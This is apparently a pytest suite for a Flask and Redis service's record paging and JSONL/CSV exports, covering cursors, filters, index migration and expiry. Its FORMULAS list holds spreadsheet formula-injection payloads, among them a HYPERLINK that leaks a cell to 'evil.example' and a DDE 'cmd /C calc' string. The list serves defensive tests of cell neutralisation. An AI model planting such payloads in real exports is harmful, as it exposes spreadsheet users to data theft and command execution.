"""Records paging (GET /records) and export (GET /records.jsonl, /records.csv), on a real Redis:
through Flask's test client, and through gunicorn (the e2e tests at the end).

The promises: a stable order (most recently fetched first, equal times by URL), an exact
page size, every record exactly once across pages while nothing changes, a walk that ends
however records change under it, filters that page the same way, JSON errors naming the
rule, exports that stream in pages, CSV a table per kind with neutralised cells.
"""
from __future__ import annotations

import csv
import io
import json
import time
from datetime import datetime, timedelta, timezone

import pytest
import requests

from web import export as record_export
import record_index
from web import records as records_api
from web.export import cell, csv_chunks, flatten
from record_index import RecordIndex, decode_cursor
from storage import (
    RECORDS_EXPIRY, RECORDS_INDEX_LOCK, RECORDS_INDEXED, Storage, dumps, make_record, record_key, records_by_time_key,
)
from tests.support import processes

NOW = datetime(2026, 12, 1, 12, 0, tzinfo=timezone.utc)
FRONT = "https://www.bbc.com/news"
PAGE = "https://example.com/blog/sourdough"


def book(n: int) -> str:
    return f"https://www.goodreads.com/book/show/{n}"


def save(redis_client, url: str, kind: str = "goodreads_book", age: float = 0.0, data: dict | None = None,
         ttl: int = 3600, status: str = "done", at: datetime = NOW) -> dict:
    """A record of url fetched `age` seconds before `at`, saved as a job saves it."""
    error = {"code": "http_status", "message": "HTTP 404"} if status == "failed" else None
    record = make_record(url, kind, status, "1", data=None if error else (data or {"title": url}), error=error)
    record["fetched_at"] = at - timedelta(seconds=age)
    Storage(redis_client).save_record(record, ttl)
    return record


def save_books(redis_client, count: int) -> list[str]:
    """count books, book(0) the newest: the order GET /records gives."""
    urls = [book(n) for n in range(count)]
    for n, url in enumerate(urls):
        save(redis_client, url, age=n)
    return urls


def walk(client, limit: int, **query) -> tuple[list[str], list[int]]:
    """Every page of GET /records: (the URLs in order, the size of each page)."""
    urls, sizes, cursor = [], [], None
    for _ in range(1000):
        params = {"limit": str(limit), **query, **({"cursor": cursor} if cursor else {})}
        response = client.get("/records", query_string=params)
        assert response.status_code == 200, response.get_data(as_text=True)
        page = response.get_json()
        urls += [record["url"] for record in page["records"]]
        sizes.append(len(page["records"]))
        cursor = page["next_cursor"]
        if cursor is None:
            return urls, sizes
    raise AssertionError("the walk did not end")


# ---- paging ----------------------------------------------------------------------------------


def test_pages_give_every_record_once_newest_first_in_exact_pages(client, redis_client):
    urls = save_books(redis_client, 14)
    listed, sizes = walk(client, 3)
    assert listed == urls  # each once, newest first
    assert sizes == [3, 3, 3, 3, 2]  # exact pages; the last says it is the last (next_cursor null)
    assert walk(client, 3, cursor="0") == (listed, sizes)  # "0", the old SCAN cursor's start, starts too


def test_the_default_page_is_100_and_a_full_last_page_ends_the_walk(client, redis_client):
    urls = save_books(redis_client, 103)
    first = client.get("/records").get_json()
    assert len(first["records"]) == 100 and first["next_cursor"]
    assert walk(client, 103) == (urls, [103])  # exactly a page: no empty page after it


def test_records_fetched_at_the_same_time_are_paged_exactly_once_by_url(client, redis_client):
    urls = [book(n) for n in range(10, 17)]
    for url in urls:
        save(redis_client, url)  # the same fetched_at: equal scores
    save(redis_client, book(1), age=-5)  # newer, first
    save(redis_client, book(2), age=5)  # older, last
    listed, sizes = walk(client, 2)
    assert listed == [book(1), *sorted(urls, reverse=True), book(2)] and sizes == [2, 2, 2, 2, 1]


def test_a_record_expiring_mid_walk_is_left_out_and_its_entry_dropped(client, redis_client):
    urls = save_books(redis_client, 8)
    first = client.get("/records", query_string={"limit": "3"}).get_json()
    assert [r["url"] for r in first["records"]] == urls[:3]
    redis_client.delete(record_key(urls[5]))  # what its TTL does
    rest, _ = walk(client, 3, cursor=first["next_cursor"])
    assert rest == urls[3:5] + urls[6:]
    assert redis_client.zscore(records_by_time_key(), urls[5]) is None  # pruned when met
    assert redis_client.zscore(RECORDS_EXPIRY, urls[5]) is None


def test_a_record_refetched_mid_walk_neither_repeats_nor_loops(client, redis_client):
    urls = save_books(redis_client, 9)
    first = client.get("/records", query_string={"limit": "3"}).get_json()
    cursor = first["next_cursor"]
    save(redis_client, urls[7], age=-60)  # re-fetched: now the newest, behind the walk
    save(redis_client, urls[2], age=-61)  # the record the cursor names, re-fetched too
    rest, _ = walk(client, 3, cursor=cursor)
    assert rest == urls[3:7] + urls[8:]
    assert walk(client, 4)[0] == [urls[2], urls[7], *urls[:2], *urls[3:7], urls[8]]  # a new walk sees the new order


def test_filters_by_kind_since_and_batch_page_the_same_way(client, redis_client):
    books = save_books(redis_client, 5)  # ages 0..4
    save(redis_client, FRONT, "news_headlines", age=2.5, data={"site": "bbc.com", "headlines": []})
    save(redis_client, PAGE, "page", age=0.5)
    assert walk(client, 1, kind="news")[0] == [FRONT]
    assert walk(client, 1, kind="page")[0] == [PAGE]
    assert walk(client, 2, kind="book")[0] == books
    since = (NOW - timedelta(seconds=2.5)).isoformat().replace("+00:00", "Z")
    assert walk(client, 1, since=since)[0] == [books[0], PAGE, books[1], books[2], FRONT]  # at or after
    assert walk(client, 1, since=since, kind="book")[0] == books[:3]
    batch = client.post("/parse", json=[books[4], books[1], FRONT, book(99)]).get_json()["batch_id"]
    assert walk(client, 1, batch=batch)[0] == [books[1], FRONT, books[4]]  # book(99): no record yet
    assert walk(client, 2, batch=batch, kind="book")[0] == [books[1], books[4]]
    assert walk(client, 1, batch=batch, kind="book", since=since)[0] == [books[1]]


@pytest.mark.parametrize("query,rule", [
    ({"limit": "0"}, "limit must be 1 to 1000"), ({"limit": "1001"}, "limit must be 1 to 1000"),
    ({"limit": "abc"}, "limit must be 1 to 1000"), ({"limit": "9" * 5000}, "limit must be 1 to 1000"),
    ({"limit": "²"}, "limit must be 1 to 1000"), ({"cursor": "abc"}, "cursor must be a next_cursor"),
    ({"cursor": "18446744073709551616"}, "cursor must be a next_cursor"), ({"cursor": "²"}, "cursor must be"),
    ({"kind": "goodreads"}, "kind must be book, news or page"), ({"since": "yesterday"}, "since must be an ISO 8601"),
])
def test_bad_values_are_a_400_naming_the_rule(client, query, rule):
    for path in ("/records", "/records.jsonl", "/records.csv"):
        if path != "/records" and set(query) & {"limit", "cursor"}:
            continue  # the exports take neither
        response = client.get(path, query_string={"kind": "book", **query})
        assert response.status_code == 400, (path, query)
        assert response.get_json()["error"]["code"] in ("invalid_query", "invalid_since")
        assert rule in response.get_json()["error"]["message"]


def test_a_cursor_names_a_position_and_forged_ones_are_refused():
    assert decode_cursor(record_index.encode_cursor(record_index.Position(1.5, b"https://a/"))) == \
        record_index.Position(1.5, b"https://a/")
    for forged in ("", "0", "MiAxLjUgaHR0cHM6Ly9hLw", "MSBuYW4gaHR0cHM6Ly9hLw", "MSBpbmYgeA", "***"):
        assert decode_cursor(forged) is None, forged  # version 2; nan; inf; not base64


def test_an_unknown_batch_is_a_404(client):
    for path in ("/records", "/records.jsonl", "/records.csv"):
        response = client.get(path, query_string={"batch": "f" * 32, "kind": "book"})
        assert response.status_code == 404 and response.get_json()["error"]["code"] == "not_found"


# ---- the index: built once for older records, kept free of expired ones ----------------------


def save_unindexed(redis_client, url: str, age: float, ttl: int = 3600) -> None:
    """A record as saved before the index existed: its key alone."""
    record = make_record(url, "goodreads_book", "done", "1", data={"title": url})
    record["fetched_at"] = NOW - timedelta(seconds=age)
    redis_client.set(record_key(url), dumps(record), ex=ttl)


def test_records_saved_before_the_index_are_indexed_once_then_listed(client, redis_client):
    for n in range(5):
        save_unindexed(redis_client, book(n), age=n)
    save(redis_client, book(9), age=-1)  # saved after the upgrade, before the first page
    assert walk(client, 2)[0] == [book(9)] + [book(n) for n in range(5)]
    assert redis_client.get(RECORDS_INDEXED) == b"done"
    assert redis_client.ttl(record_key(book(0))) > 0 and redis_client.zscore(RECORDS_EXPIRY, book(0)) > time.time()
    save_unindexed(redis_client, book(20), age=0)  # after the migration: never scanned for again
    assert book(20) not in walk(client, 10)[0]


def test_the_index_is_built_in_resumable_steps_by_one_process_at_a_time(client, redis_client):
    for n in range(30):
        save_unindexed(redis_client, book(n), age=n)
    index = RecordIndex(redis_client)
    redis_client.set(RECORDS_INDEX_LOCK, "another process", ex=60)
    assert index.build_step() is False
    held = client.get("/records")
    assert held.status_code == 503 and held.get_json()["error"]["code"] == "index_building"
    assert held.headers["Retry-After"] == "1"
    redis_client.delete(RECORDS_INDEX_LOCK)
    steps = next(step for step in range(1, 100) if index.build_step(keys_at_most=1) or step == 99)
    assert 1 < steps < 99 and redis_client.zcard(records_by_time_key()) == 30
    assert redis_client.zcard(records_by_time_key("goodreads_book")) == 30
    assert walk(client, 7)[0] == [book(n) for n in range(30)]


def test_indexing_an_old_record_never_moves_a_newer_save_back(redis_client):
    old = make_record(book(1), "goodreads_book", "done", "1", data={"title": "old"})
    old["fetched_at"] = NOW - timedelta(seconds=100)  # what the migration read...
    save(redis_client, book(1), age=0)  # ...before the record was fetched again
    with redis_client.pipeline() as pipe:
        record_index._queue_entry(pipe, book(1).encode(), old, 3_600_000)
        pipe.execute()
    for key in (records_by_time_key(), records_by_time_key("goodreads_book")):
        assert redis_client.zscore(key, book(1)) == NOW.timestamp()
    assert redis_client.zscore(RECORDS_EXPIRY, book(1)) > time.time() + 3000


def test_expired_records_entries_are_pruned_but_a_saved_one_is_kept(redis_client):
    urls = save_books(redis_client, 4)
    for url in urls[:3]:
        redis_client.zadd(RECORDS_EXPIRY, {url: time.time() - 1})  # its expiry time has passed...
    redis_client.delete(record_key(urls[0]), record_key(urls[1]))  # ...and Redis dropped two of them
    assert RecordIndex(redis_client).prune_expired(time.time()) == 2  # urls[2]: its record is still there
    assert redis_client.zrange(records_by_time_key(), 0, -1) == [u.encode() for u in reversed(urls[2:])]
    assert redis_client.zrange(records_by_time_key("goodreads_book"), 0, -1) == [u.encode() for u in reversed(urls[2:])]


def test_an_entry_is_kept_when_its_record_is_saved_again_while_it_is_being_dropped(redis_client, monkeypatch):
    save(redis_client, book(1))
    redis_client.delete(record_key(book(1)))  # expired: its entry may go...
    real_pipeline = redis_client.pipeline

    def pipeline(transaction: bool = True, **kwargs):
        pipe = real_pipeline(transaction=transaction, **kwargs)
        if not transaction:  # drop_missing's reads: right after them the record is saved again
            execute = pipe.execute
            pipe.execute = lambda *args: [execute(*args), save(redis_client, book(1), age=-1)][0]
        return pipe

    monkeypatch.setattr(redis_client, "pipeline", pipeline)
    assert RecordIndex(redis_client).drop_missing([book(1).encode()]) == 0  # ...but not once it is back
    assert redis_client.zscore(records_by_time_key(), book(1)) == NOW.timestamp() + 1


def test_the_ticker_prunes_the_index(redis_client, monkeypatch):
    from jobs import ticker

    save(redis_client, book(1), ttl=1)
    redis_client.delete(record_key(book(1)))
    monkeypatch.setattr(ticker.time, "time", lambda: NOW.timestamp() + 10**9)
    assert ticker.upkeep_records_index(redis_client) == 1 and redis_client.zcard(records_by_time_key()) == 0


# ---- exports ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


def csv_of(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_jsonl_streams_every_selected_record_in_pages(client, redis_client, monkeypatch):
    monkeypatch.setattr(records_api, "EXPORT_PAGE", 3)
    urls = save_books(redis_client, 10)
    save(redis_client, PAGE, "page", age=3.5)
    response = client.get("/records.jsonl", query_string={"kind": "book"})
    assert response.status_code == 200 and response.mimetype == "application/x-ndjson" and response.is_streamed
    assert response.headers["Content-Disposition"] == 'attachment; filename="records-book.jsonl"'
    lines = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    assert [line["url"] for line in lines] == urls and lines[0]["fetched_at"] == NOW.isoformat()
    every = client.get("/records.jsonl").get_data(as_text=True).splitlines()
    assert len(every) == 11 and json.loads(every[4])["url"] == PAGE


def test_an_export_reads_its_records_a_page_at_a_time(client, redis_client, monkeypatch):
    monkeypatch.setattr(records_api, "EXPORT_PAGE", 5)
    monkeypatch.setattr(record_export, "CHUNK_CHARS", 1)  # a chunk per record
    save_books(redis_client, 50)
    reads, read = [], RecordIndex._records_at
    monkeypatch.setattr(RecordIndex, "_records_at",
                        lambda index, positions, selection: reads.append(len(positions)) or read(index, positions, selection))
    response = client.get("/records.jsonl", buffered=False)
    assert reads == [5]  # the first page, read before the 200 (so a Redis failure is a 503); not all 50
    body = iter(response.response)
    assert json.loads(next(body))["url"] == book(0) and reads == [5]
    assert len(b"".join(body).splitlines()) == 49 and reads == [5] * 10
    response.close()


def test_csv_without_a_kind_has_every_kinds_columns_and_a_kind_column(client, redis_client):
    save(redis_client, book(1), data={"title": "A book", "authors": ["Ann"]})
    save(redis_client, FRONT, "news_headlines", age=1, data={"site": "bbc.com", "headlines": [
        {"title": "Story", "url": "https://www.bbc.com/news/1", "position": 1}]})
    save(redis_client, PAGE, "page", age=2, data={"title": "A page", "site_name": "Crumb"})
    response = client.get("/records.csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="records.csv"'
    rows = csv_of(response)
    assert list(rows[0])[:5] == ["url", "kind", "status", "fetched_at", "error"]
    assert {"book_id", "authors", "headline_url", "position", "site_name", "word_count"} <= set(rows[0])
    assert [(r["url"], r["kind"], r["title"]) for r in rows] == [
        (book(1), "book", "A book"), (FRONT, "news", "Story"), (PAGE, "page", "A page")]
    assert (rows[0]["authors"], rows[0]["position"], rows[1]["position"], rows[1]["authors"]) == ("Ann", "", "1", "")
    assert rows[1]["headline_url"] == "https://www.bbc.com/news/1" and rows[2]["site_name"] == "Crumb"


def test_csv_of_books_is_a_row_per_book_with_book_columns(client, redis_client):
    data = {"kind": "goodreads_book", "book_id": "5", "title": "T", "authors": ["A", "B"], "rating": 4.1,
            "ratings_count": -3, "series": {"name": "S", "position": "2"}, "genres": ["x", "y"], "url": book(5)}
    save(redis_client, book(5), data=data)
    save(redis_client, book(6), status="failed", age=1)
    response = client.get("/records.csv", query_string={"kind": "book"})
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="records-book.csv"'
    done, failed = csv_of(response)
    assert list(done)[:5] == ["url", "kind", "status", "fetched_at", "error"] and "headline_url" not in done
    assert done["kind"] == "book"
    assert (done["url"], done["title"], done["authors"], done["rating"], done["ratings_count"]) == \
        (book(5), "T", "A; B", "4.1", "-3")
    assert (done["series"], done["series_position"], done["genres"]) == ("S", "2", "x; y")
    assert (failed["status"], failed["error"], failed["title"]) == ("failed", "http_status: HTTP 404", "")


def test_csv_of_news_is_a_row_per_headline(client, redis_client):
    headlines = [{"title": f"Story {n}", "url": f"https://www.bbc.com/news/{n}", "kicker": "LIVE" if n == 1 else None,
                  "summary": None, "section": "world", "position": n, "sublink": n == 2, "image": None,
                  "url_as_linked": None} for n in (1, 2)]
    save(redis_client, FRONT, "news_headlines", data={"kind": "news_headlines", "site": "bbc.com",
                                                       "headlines": headlines})
    save(redis_client, "https://www.wsj.com/", "news_headlines", age=1, data={"site": "wsj.com", "headlines": []})
    rows = csv_of(client.get("/records.csv", query_string={"kind": "news"}))
    assert list(rows[0])[5:9] == ["site", "position", "title", "headline_url"] and "book_id" not in rows[0]
    assert [(r["url"], r["position"], r["title"], r["headline_url"], r["kicker"], r["sublink"]) for r in rows] == [
        (FRONT, "1", "Story 1", "https://www.bbc.com/news/1", "LIVE", "false"),
        (FRONT, "2", "Story 2", "https://www.bbc.com/news/2", "", "true"),
        ("https://www.wsj.com/", "", "", "", "", ""),  # a front without headlines still has its row
    ]
    assert rows[0]["fetched_at"] == NOW.isoformat() and rows[2]["site"] == "wsj.com"


def test_csv_of_pages_has_page_columns(client, redis_client):
    save(redis_client, PAGE, "page", data={"kind": "page", "title": "Sourdough", "authors": ["Lou", "Kim"],
                                           "word_count": 812, "canonical_url": PAGE})
    [row] = csv_of(client.get("/records.csv", query_string={"kind": "page"}))
    assert (row["url"], row["title"], row["authors"], row["word_count"], row["canonical_url"]) == \
        (PAGE, "Sourdough", "Lou; Kim", "812", PAGE)
    assert "site_name" in row and "book_id" not in row and "position" not in row


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe_and_numbers_stay_numbers(client, redis_client, formula):
    data = {"title": formula, "authors": [formula, "B"], "description": "fine = text", "ratings_count": -3,
            "rating": 4.5, "publisher": -7.25}
    save(redis_client, book(1), data=data)
    [row] = csv_of(client.get("/records.csv", query_string={"kind": "book"}))
    assert row["title"] == "'" + formula
    assert row["authors"] == "'" + formula + "; B"
    assert row["description"] == "fine = text"  # only a formula at the start of a cell runs
    assert (row["ratings_count"], row["rating"], row["publisher"]) == ("-3", "4.5", "-7.25")


def test_cells_flatten_lists_dicts_and_empties():
    assert flatten(["Ann", "Bob"]) == "Ann; Bob"
    assert flatten({"name": "Saga", "number": 2}) == '{"name": "Saga", "number": 2}'
    assert flatten([{"title": "A", "url": "u"}, "b"]) == '{"title": "A", "url": "u"}; b'
    assert flatten(None) == "" and flatten([]) == "" and flatten(True) == "true" and flatten(4.5) == "4.5"
    assert cell(["-x", "y"]) == "'-x; y" and cell(True) == "true" and cell(0) == "0"


def test_a_csv_export_streams_in_chunks():
    records = [make_record(book(n), "goodreads_book", "done", "1", data={"description": "x" * 10_000})
               for n in range(20)]
    chunks = list(csv_chunks("goodreads_book", iter(records)))
    assert len(chunks) > 2 and all(len(chunk) < 80_000 for chunk in chunks)


# =============================================================================================
# Through gunicorn: the same promises over real HTTP
# =============================================================================================


@pytest.fixture(scope="module")
def web(module_redis_url, tmp_path_factory):
    server = processes.start_web(processes.service_env(REDIS_URL=module_redis_url),
                                 tmp_path_factory.mktemp("records") / "web.log")
    yield server
    server.stop()


def http_walk(base: str, limit: int, **query) -> tuple[list[str], int]:
    urls, requests_made, cursor = [], 0, None
    while True:
        params = {"limit": limit, **query, **({"cursor": cursor} if cursor else {})}
        answer = requests.get(f"{base}/records", params=params, timeout=10)
        requests_made += 1
        assert answer.status_code == 200, answer.text
        urls += [record["url"] for record in answer.json()["records"]]
        cursor = answer.json()["next_cursor"]
        if cursor is None or requests_made > 100:
            return urls, requests_made


@pytest.mark.e2e
def test_gunicorn_pages_every_record_once_in_order(web, redis_client):
    urls = save_books(redis_client, 14)
    assert http_walk(web.base, 2) == (urls, 7)  # the case: 14 records, limit 2 -> 7 requests, none empty
    first = requests.get(f"{web.base}/records", params={"limit": 4}, timeout=10).json()
    redis_client.delete(record_key(urls[6]))  # expires mid-walk
    save(redis_client, urls[9], age=-10)  # re-fetched mid-walk
    rest, _ = http_walk(web.base, 4, cursor=first["next_cursor"])
    assert rest == urls[4:6] + urls[7:9] + urls[10:]


@pytest.mark.e2e
def test_gunicorn_csv_export_neutralises_formula_cells(web, redis_client):
    save(redis_client, book(1), data={"title": FORMULAS[0], "authors": ["@SUM(1,2)"], "ratings_count": -3})
    answer = requests.get(f"{web.base}/records.csv", params={"kind": "book"}, timeout=10)
    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="records-book.csv"'
    assert answer.headers.get("Transfer-Encoding") == "chunked"  # streamed, not built whole
    [row] = list(csv.DictReader(io.StringIO(answer.content.decode())))
    assert (row["title"], row["authors"], row["ratings_count"]) == ("'" + FORMULAS[0], "'@SUM(1,2)", "-3")
